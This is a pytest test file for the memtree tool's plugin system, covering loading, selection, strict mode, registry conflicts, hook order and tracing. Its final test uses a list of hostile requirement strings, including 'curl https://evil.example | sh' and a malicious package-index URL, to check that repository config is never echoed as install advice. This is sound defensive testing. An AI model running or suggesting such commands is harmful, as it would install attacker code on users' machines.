"""Plugin loading: built-ins by name, entry points, selection, failure isolation, strict mode, conflicts."""

from __future__ import annotations

import json
import re
import subprocess
from pathlib import Path

import pytest
from helpers.common import MEMTREE, wait_for
from helpers.plugin_dists import GOOD, RAISES_AT_IMPORT, RAISES_IN_HOOK, UNKNOWN_HOOK, env_with, make_dist

from memtree_core.hookspecs import hookimpl
from memtree_core.plugins import PluginLoadError, build
from memtree_core.registry import Register, Registry, RegistryConflict
from memtree_core.settings import Settings
from memtree_plugins import BUILTINS

# Entry points installed in this environment (another test may pip-install the example plugin meanwhile)
# stay out of builds that only look at built-ins and in-process plugins.
NO_THIRD_PARTY = {"MEMTREE_LOAD_PLUGINS": ""}


def memtree(*args: str, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    """Run the real CLI with exactly ``env`` (no MEMTREE_* leaks in from the test process)."""
    return subprocess.run([MEMTREE, *args], env=env, capture_output=True, text=True, timeout=60)


def plugins_json(project: Path, env: dict[str, str]) -> dict[str, dict]:
    out = memtree("plugins", "--json", "--project", str(project), env=env)
    assert out.stdout, out.stderr
    return {p["name"]: p for p in json.loads(out.stdout)}


@pytest.fixture
def site(tmp_path: Path) -> Path:
    s = tmp_path / "site"
    make_dist(s, "memtree-good", "1.2.0", {"good": GOOD})
    make_dist(s, "memtree-broken", "0.1.0", {"broken-import": RAISES_AT_IMPORT, "broken-hook": RAISES_IN_HOOK})
    make_dist(s, "memtree-typo", "0.1.0", {"typo": UNKNOWN_HOOK})
    # What pip leaves for a moment while it installs or removes a package beside a running memtree:
    # entry points whose distribution has no METADATA.
    make_dist(s, "memtree-halfgone", "0.1.0", {"halfgone": GOOD})
    (s / "memtree_halfgone-0.1.0.dist-info" / "METADATA").unlink()
    return s


def test_every_builtin_is_listed_by_name(home: Path, project: Path) -> None:
    report = plugins_json(project, env_with(project, MEMTREE_HOME=str(home)))
    for name, module in BUILTINS.items():
        assert report[name]["status"] == "loaded"
        assert report[name]["source"] == f"builtin:{module}"


def test_broken_plugins_are_reported_and_skipped(home: Path, project: Path, site: Path) -> None:
    env = env_with(site, MEMTREE_HOME=str(home))
    out = memtree("plugins", "--json", "--project", str(project), env=env)
    report = {p["name"]: p for p in json.loads(out.stdout)}
    assert out.returncode == 1  # failures make `memtree plugins` exit non-zero
    assert report["good"]["status"] == "loaded"
    assert report["good"]["source"] == "entrypoint:memtree-good 1.2.0"
    assert report["good"]["provides"] == {"chunkers": ["upper"]}
    assert report["broken-import"]["status"] == "failed"
    assert "RuntimeError: boom at import" in report["broken-import"]["error"]
    assert report["broken-hook"]["status"] == "failed"
    assert "ValueError: boom in register hook" in report["broken-hook"]["error"]
    assert report["typo"]["status"] == "failed"
    assert "memtree_register_chunkerz" in report["typo"]["error"]
    assert report["halfgone"]["status"] == "failed"
    assert "metadata cannot be read" in report["halfgone"]["error"]
    assert all(report[name]["status"] == "loaded" for name in BUILTINS)


def test_strict_mode_makes_a_failure_fatal(home: Path, project: Path, site: Path) -> None:
    env = env_with(site, MEMTREE_HOME=str(home), MEMTREE_STRICT_PLUGINS="1")
    out = memtree("plugins", "--project", str(project), env=env)
    assert out.returncode == 2
    assert "broken-import" in out.stderr and "MEMTREE_STRICT_PLUGINS" in out.stderr
    assert "Traceback" not in out.stderr


def test_load_plugins_selects_by_entry_point_or_distribution(home: Path, project: Path, site: Path) -> None:
    report = plugins_json(project, env_with(site, MEMTREE_HOME=str(home), MEMTREE_LOAD_PLUGINS="good"))
    assert report["good"]["status"] == "loaded"
    assert report["broken-import"]["status"] == "not-selected"
    report = plugins_json(project, env_with(site, MEMTREE_HOME=str(home), MEMTREE_LOAD_PLUGINS="memtree-broken"))
    assert report["good"]["status"] == "not-selected"
    assert report["broken-hook"]["status"] == "failed"
    report = plugins_json(project, env_with(site, MEMTREE_HOME=str(home), MEMTREE_LOAD_PLUGINS=""))
    assert {report[n]["status"] for n in ("good", "broken-import", "typo")} == {"not-selected"}
    assert report["chunkers"]["status"] == "loaded"  # built-ins are not third-party selections


def test_disable_plugins_blocks_before_import_builtins_included(home: Path, project: Path, site: Path) -> None:
    env = env_with(site, MEMTREE_HOME=str(home), MEMTREE_DISABLE_PLUGINS="broken-import,chunkers,memtree-typo")
    report = plugins_json(project, env)
    assert report["broken-import"]["status"] == "disabled"  # never imported, so no error
    assert "error" not in report["broken-import"]
    assert report["chunkers"]["status"] == "disabled"
    assert report["typo"]["status"] == "disabled"


def test_per_repo_plugin_set(home: Path, project: Path, site: Path) -> None:
    (project / ".memtree.json").write_text(json.dumps(
        {"plugins": {"load": ["good"], "disable": ["retrieval"], "require": {"memtree-good": ">=1.0"}}}))
    report = plugins_json(project, env_with(site, MEMTREE_HOME=str(home)))
    assert report["good"]["status"] == "loaded"
    assert report["broken-import"]["status"] == "not-selected"
    assert report["retrieval"]["status"] == "disabled"
    (project / ".memtree.json").write_text(json.dumps({"plugins": {"require": {"memtree-good": ">=2"}}}))
    report = plugins_json(project, env_with(site, MEMTREE_HOME=str(home), MEMTREE_LOAD_PLUGINS="good"))
    assert report["memtree-good"]["status"] == "missing"
    assert "does not satisfy" in report["memtree-good"]["error"]


def test_repo_config_cannot_disable_redaction(home: Path, project: Path) -> None:
    (project / ".memtree.json").write_text(json.dumps({"plugins": {"disable": ["redaction"]}}))
    report = plugins_json(project, env_with(project, MEMTREE_HOME=str(home)))
    assert report["redaction"]["status"] == "loaded"


class _Named:
    """A chunker (every member of the protocol, so the build keeps it) known by its name and tag."""

    priority = 0

    def __init__(self, name: str, tag: str = "") -> None:
        self.name = name
        self.tag = tag

    def matches(self, path: str) -> bool:
        return False

    def chunk(self, path: str, text: str) -> list:  # type: ignore[type-arg]
        return []


def test_registry_conflict_names_both_plugins_and_replaces_overrides() -> None:
    reg: Registry[_Named] = Registry("chunker")
    Register(reg, "alpha")(_Named("py"))
    with pytest.raises(RegistryConflict) as err:
        Register(reg, "beta")(_Named("py"))
    assert "'alpha'" in str(err.value) and "'beta'" in str(err.value) and "replaces=True" in str(err.value)
    Register(reg, "beta")(_Named("py", "beta's"), replaces=True)
    assert reg["py"].tag == "beta's"
    assert reg.entry("py").replaced == "alpha"  # type: ignore[union-attr]
    Register(reg, "gamma").remove("py")
    assert "py" not in reg and reg.removed == {"py": "gamma"}


class FirstChunker:
    @hookimpl
    def memtree_register_chunkers(self, register):
        register(_Named("window", "first"))


class ClashingChunker:
    """A plugin that registers a chunker under another plugin's name without declaring replaces."""

    @hookimpl
    def memtree_register_chunkers(self, register):
        register(_Named("window"))


class ReplacingChunker:
    @hookimpl
    def memtree_register_chunkers(self, register):
        register(_Named("window", "mine"), replaces=True)


def test_conflict_fails_only_the_newcomer() -> None:
    first = ("first", FirstChunker())
    plugins = build(Settings(), NO_THIRD_PARTY, builtins={}, extra=[first, ("clash", ClashingChunker())])
    info = plugins.info("clash")
    assert info is not None and info.status == "failed"
    assert "'first'" in info.error and "'clash'" in info.error
    assert plugins.chunkers.entry("window").plugin == "first"
    with pytest.raises(PluginLoadError):
        build(Settings(), {**NO_THIRD_PARTY, "MEMTREE_STRICT_PLUGINS": "1"}, builtins={},
              extra=[first, ("clash", ClashingChunker())])
    plugins = build(Settings(), NO_THIRD_PARTY, builtins={}, extra=[first, ("mine", ReplacingChunker())])
    assert plugins.chunkers["window"].tag == "mine"


def test_token_counter_hook_first_result_wins_over_builtin() -> None:
    class Fixed:
        name = "fixed"

        def count(self, text: str) -> int:
            return 7

    class CounterPlugin:
        @hookimpl
        def memtree_token_counter(self, settings):
            return Fixed()

    assert build(Settings(), NO_THIRD_PARTY).token_counter.name == "estimate"
    assert build(Settings(), NO_THIRD_PARTY, extra=[("c", CounterPlugin())]).token_counter.count("x") == 7


def test_importing_memtree_core_loads_no_plugins() -> None:
    import subprocess
    import sys

    code = ("import sys, memtree_core, memtree_core.cli; "
            "print(any(m.startswith('memtree_plugins') or m == 'pluggy' for m in sys.modules))")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "False"


# -- precedence: pluggy's call order, one rule for every kind ---------------------------------------------------
class _PyChunker:
    """Claims .py files at the built-in python chunker's priority: only precedence can make it win."""

    priority = 100

    def __init__(self, name: str) -> None:
        self.name = name

    def matches(self, path: str) -> bool:
        return path.endswith(".py")

    def chunk(self, path: str, text: str, count: object) -> list[object]:
        return []


class _AlwaysEmbedder:
    model = "third-party-model"
    dim = 3

    def __init__(self, name: str) -> None:
        self.name = name

    def available(self) -> tuple[bool, str]:
        return True, ""

    def embed(self, texts: list[str]) -> list[list[float]]:
        return [[1.0, 0.0, 0.0] for _ in texts]


def _plugin(name: str, **opts: bool) -> object:
    class Plugin:
        @hookimpl(**opts)
        def memtree_register_chunkers(self, register: Register) -> None:
            register(_PyChunker(f"{name}-py"))

        @hookimpl(**opts)
        def memtree_register_embedders(self, register: Register) -> None:
            register(_AlwaysEmbedder(f"{name}-embedder"))

    return Plugin()


def test_a_tryfirst_plugin_lands_before_the_builtins_and_later_plugins(home: Path, project: Path) -> None:
    from memtree_core.app import App
    from memtree_plugins.semantic.vectors import choose_embedder

    # "eager" registers first but is tryfirst; "plain" registers later, which in pluggy comes before the
    # built-ins (trylast) but after any tryfirst implementation.
    app = App.open(project, {"MEMTREE_LOAD_PLUGINS": "", "MEMTREE_HOME": str(home)},
                   extra=[("eager", _plugin("eager", tryfirst=True)), ("plain", _plugin("plain"))])
    try:
        chunkers = [c.name for c in app.plugins.chunkers.ranked() if c.priority == 100 and c.matches("a.py")]
        assert chunkers[:2] == ["eager-py", "plain-py"]
        assert "python" in chunkers[2:]
        assert app.chunker_for("src/a.py").name == "eager-py"
        embedders = [e.name for e in app.plugins.embedders.ranked()]
        assert embedders[:2] == ["eager-embedder", "plain-embedder"]
        assert set(embedders[2:]) == {e.name for e in app.plugins.embedders.entries()
                                      if e.plugin == "embedders"}
        choice = choose_embedder(app, store_models=[])
        assert choice.embedder is not None and choice.embedder.name == "eager-embedder"
    finally:
        app.close()


def test_without_markers_the_most_recently_registered_plugin_comes_first(home: Path, project: Path) -> None:
    from memtree_core.app import App

    app = App.open(project, {"MEMTREE_LOAD_PLUGINS": "", "MEMTREE_HOME": str(home)},
                   extra=[("first", _plugin("first")), ("second", _plugin("second"))])
    try:
        assert app.chunker_for("a.py").name == "second-py"
        assert [e.name for e in app.plugins.embedders.ranked()][:2] == ["second-embedder", "first-embedder"]
    finally:
        app.close()


def test_the_plugin_called_first_registers_last_so_its_replaces_sees_the_others() -> None:
    class Override:
        @hookimpl(tryfirst=True)
        def memtree_register_chunkers(self, register: Register) -> None:
            register(_PyChunker("python"), replaces=True)

    class Later:
        @hookimpl
        def memtree_register_chunkers(self, register: Register) -> None:
            register.remove("markdown")

    plugins = build(Settings(), {"MEMTREE_LOAD_PLUGINS": ""}, extra=[("override", Override()), ("later", Later())])
    assert plugins.chunkers.entry("python").plugin == "override"  # type: ignore[union-attr]
    assert plugins.chunkers.removed == {"markdown": "later"}
    assert plugins.info("override").status == "loaded"  # type: ignore[union-attr]


# Hooks the host calls per event rather than while it builds the plugin set: a capture, the daemon's life.
DAEMON_LIFE_HOOKS = {"memtree_daemon_started", "memtree_daemon_stopping"}
PER_EVENT_HOOKS = {"memtree_prepare_capture", "memtree_store_capture"} | DAEMON_LIFE_HOOKS


def test_trace_plugins_shows_a_call_of_every_hook(home: Path, project: Path, capsys: pytest.CaptureFixture) -> None:
    import os

    from memtree_core import hookspecs
    from memtree_core.app import App
    from memtree_core.daemon.ingest import IngestServer

    hooks = sorted(n for n in vars(hookspecs) if n.startswith("memtree_"))
    out = memtree("plugins", "--project", str(project),
                  env=env_with(project, MEMTREE_HOME=str(home), MEMTREE_TRACE_PLUGINS="1"))
    traced = set(re.findall(r"(memtree_\w+) \[hook\]", out.stderr))
    assert traced == set(hooks) - PER_EVENT_HOOKS, out.stderr[-2000:]
    # The per-event hooks are traced when their event comes: a capture.
    payload = json.loads((Path(__file__).resolve().parents[1] / "data" / "claude-code-payloads" / "post-bash.json").read_text())
    app = App.open(project, environ={**os.environ, "MEMTREE_HOME": str(home), "MEMTREE_TRACE_PLUGINS": "1"})
    try:
        capsys.readouterr()
        IngestServer(app).ingest_once(payload)
    finally:
        app.close()
    traced = set(re.findall(r"(memtree_\w+) \[hook\]", capsys.readouterr().err))
    assert traced == PER_EVENT_HOOKS - DAEMON_LIFE_HOOKS
    # The daemon's life: a real daemon in the foreground, started and stopped.
    env = env_with(project, MEMTREE_HOME=str(home), MEMTREE_TRACE_PLUGINS="1")
    daemon = subprocess.Popen([MEMTREE, "daemon", "--project", str(project)], env=env, stdout=subprocess.DEVNULL,
                              stderr=subprocess.PIPE, text=True)
    try:
        wait_for(lambda: (home / "hook-sender").exists() or daemon.poll() is not None, 120,
                 "the daemon to write the hooks' sender")
        assert memtree("stop", "--project", str(project), env=env).returncode == 0
        _out, err = daemon.communicate(timeout=60)
    finally:
        if daemon.poll() is None:
            daemon.kill()
            daemon.communicate()
    assert set(re.findall(r"(memtree_daemon_\w+) \[hook\]", err)) == DAEMON_LIFE_HOOKS, err[-2000:]


def test_every_daemon_life_hook_runs_even_when_one_plugin_raises(tmp_path: Path) -> None:
    """``memtree_daemon_started``/``memtree_daemon_stopping`` reach every plugin: one that raises is logged and
    skipped, so a broken plugin cannot keep the wrappers plugin from ending the tools' processes."""
    seen: list[str] = []

    class Broken:
        @hookimpl(tryfirst=True)
        def memtree_daemon_stopping(self, app):
            seen.append("broken")
            raise RuntimeError("boom")

    class Careful:
        @hookimpl(trylast=True)
        def memtree_daemon_stopping(self, app):
            seen.append(f"careful:{app}")

    plugins = build(Settings(), NO_THIRD_PARTY, builtins={}, extra=[("careful", Careful()), ("broken", Broken())])
    plugins.notify("memtree_daemon_stopping", app="the-app")
    assert seen == ["broken", "careful:the-app"]


def test_without_the_tokens_plugin_the_build_reports_it_and_counting_says_why() -> None:
    plugins = build(Settings(), {**NO_THIRD_PARTY, "MEMTREE_DISABLE_PLUGINS": "tokens"})
    missing = plugins.info("token counter")
    assert missing is not None and missing.status == "missing" and missing in plugins.failures
    assert "'tokens' plugin is disabled" in missing.error
    with pytest.raises(PluginLoadError, match="no plugin provides a token counter"):
        plugins.token_counter.count("some text")
    with pytest.raises(PluginLoadError, match="no plugin provides a token counter"):
        build(Settings(), {**NO_THIRD_PARTY, "MEMTREE_DISABLE_PLUGINS": "tokens", "MEMTREE_STRICT_PLUGINS": "1"})
    assert build(Settings(), NO_THIRD_PARTY).info("token counter") is None


def test_an_unhashable_extra_plugin_loads_and_breaks_no_other() -> None:
    """pluggy keeps plugins in sets: an unhashable plugin object (a dataclass instance) once failed every other
    plugin's register hooks; it is now held through its hook functions."""
    from dataclasses import dataclass

    class Keep:
        name = "keep-all"

        def check(self, node, app):  # type: ignore[no-untyped-def]
            return None

    @dataclass
    class Unhashable:
        label: str = "x"

        @hookimpl
        def memtree_register_filters(self, register) -> None:  # type: ignore[no-untyped-def]
            register(Keep())

    plugins = build(Settings(), {}, extra=[("unhashable", Unhashable())])
    assert {p.name: p.status for p in plugins.report if p.status != "loaded"} == {}
    assert plugins.info("unhashable").provides == {"filters": ["keep-all"]}  # type: ignore[union-attr]
    assert plugins.filters.names()[0] == "keep-all"  # a plugin's items before the built-ins' (trylast)


def test_every_kind_gives_its_items_in_one_order() -> None:
    registry: Registry[object] = Registry("thing")

    class Item:
        def __init__(self, name: str, priority: int = 0) -> None:
            self.name, self.priority = name, priority

    registry.add("builtin", Item("builtin"), "b", rank=2)
    registry.add("later", Item("later"), "p", rank=1)
    registry.add("first", Item("first"), "f", rank=0)
    registry.add("urgent", Item("urgent", priority=5), "b", rank=2)
    expected = ["urgent", "first", "later", "builtin"]
    assert registry.names() == expected
    assert [i.name for i in registry] == expected == [i.name for i in registry.ranked()]  # type: ignore[attr-defined]


# What a hostile repository might put in plugins.require, hoping memtree repeats it as install advice.
LURES = {"memtree-good --index-url https://evil.example/simple": "",
         "memtree-absent": ">=1; curl https://evil.example | sh",
         "memtree-other @ https://evil.example/memtree_other.whl": "",
         "memtree-extra[evil]": ">=1"}


def test_repo_plugins_require_is_never_echoed_as_install_advice(home: Path, project: Path) -> None:
    (project / ".memtree.json").write_text(json.dumps(
        {"plugins": {"require": {**LURES, "memtree-absent2": ">=1.0"}}}))
    env = env_with(project, MEMTREE_HOME=str(home))
    report = plugins_json(project, env)
    listing = memtree("plugins", "--project", str(project), env=env).stdout
    info = memtree("info", "--project", str(project), env=env).stdout
    for text in (json.dumps(report), listing, info):
        assert "evil" not in text and "--index-url" not in text
    invalid = [p for name, p in report.items() if name.startswith("invalid requirement")]
    assert len(invalid) == len(LURES)
    assert all(p["status"] == "missing" and "not a valid requirement" in p["error"] for p in invalid)
    # A valid name is named, and only that: the repository's word is no reason to install it.
    absent = report["memtree-absent2"]
    assert absent["status"] == "missing" and "'memtree-absent2'" in absent["error"]
    assert "pip install" not in absent["error"] and ".memtree.json" in absent["error"]
    assert "plugin invalid requirement 1 missing: " in info


def test_users_own_plugins_require_names_the_bad_entry_and_the_install(home: Path, project: Path) -> None:
    home.mkdir(parents=True, exist_ok=True)
    (home / "config.json").write_text(json.dumps(
        {"plugins": {"require": {"memtree-absent": ">=1", "memtree-typo": "at least 1"}}}))
    report = plugins_json(project, env_with(project, MEMTREE_HOME=str(home)))
    assert "(pip install 'memtree-absent>=1')" in report["memtree-absent"]["error"]
    (invalid,) = [p for name, p in report.items() if name.startswith("invalid requirement")]
    assert "'memtree-typo': 'at least 1'" in invalid["error"] and "'>=1.0'" in invalid["error"]
